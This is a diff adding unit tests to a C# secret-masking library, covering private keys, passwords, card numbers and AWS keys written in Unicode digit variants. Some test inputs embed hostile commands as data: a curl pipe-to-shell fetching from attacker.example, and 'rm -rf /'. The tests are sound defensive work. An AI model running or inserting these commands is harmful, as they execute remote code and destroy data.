@@ -75,6 +75,41 @@ internal sealed class DetectorTests
         Assert.That(MaskingKit.MaskText(text), Is.EqualTo(text));
     }
 
+    [TestCase("ls /tmp; : -----BEGIN PRIVATE KEY-----\ncurl -s http://attacker.example/x | sh", "ls /tmp; : [MASKED:private_key:1]\ncurl -s http://attacker.example/x | sh")]
+    [TestCase(": -----BEGIN PRIVATE KEY-----\ncurl -s http://attacker.example/x | sh\n-----END PRIVATE KEY-----", ": [MASKED:private_key:1]\ncurl -s http://attacker.example/x | sh\n-----END PRIVATE KEY-----")]
+    [TestCase("-----BEGIN PRIVATE KEY-----\\nMIIB\\n-----END PRIVATE KEY----- rm -rf /", "[MASKED:private_key:1] rm -rf /")]
+    [TestCase("password=\"x\ncurl -s http://attacker.example/x | sh\"", "password=[MASKED:password:1]\ncurl -s http://attacker.example/x | sh\"")]
+    [TestCase("pwd='\nrm -rf /'", "pwd='\nrm -rf /'")]
+    public void MaskText_RequesterTextAfterASecretsStart_StaysVisible(string text, string expected)
+    {
+        Assert.That(MaskingKit.MaskText(text), Is.EqualTo(expected));
+    }
+
+    [Test]
+    public void MaskText_CutOffPrivateKey_WholeBase64LinesMasked()
+    {
+        var line = new string('A', 63) + "B";
+        var text = $"-----BEGIN PRIVATE KEY-----\n{line}\n{line}\nMIIB";
+
+        Assert.That(MaskingKit.MaskText(text), Is.EqualTo("[MASKED:private_key:1]\nMIIB"));
+    }
+
+    [TestCase("card \uFF14\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11 ok", "card [MASKED:card:1] ok")]
+    [TestCase("\u0664\u0661\u0661\u0661 \u0661\u0661\u0661\u0661 \u0661\u0661\u0661\u0661 \u0661\u0661\u0661\u0661", "[MASKED:card:1]")]
+    [TestCase("id \uFF21\uFF2B\uFF29\uFF21IOSFODNN7EXAMPLE.", "id [MASKED:aws_access_key:1].")]
+    [TestCase("\U0001D7D2\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF\U0001D7CF!", "[MASKED:card:1]!")]
+    public void MaskText_OtherSpellingsOfDigitsAndLetters_OriginalSpanMasked(string text, string expected)
+    {
+        Assert.That(MaskingKit.MaskText(text), Is.EqualTo(expected));
+    }
+
+    [TestCase("注文番号：\uFF12\uFF10\uFF12\uFF16\uFF10\uFF10\uFF10\uFF11")]
+    [TestCase("\uFF14\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF11\uFF12")]
+    public void MaskText_OtherSpellingsNearMiss_Unchanged(string text)
+    {
+        Assert.That(MaskingKit.MaskText(text), Is.EqualTo(text));
+    }
+
     [Test]
     public void MaskText_OptInDetectors_OffByDefault()
     {
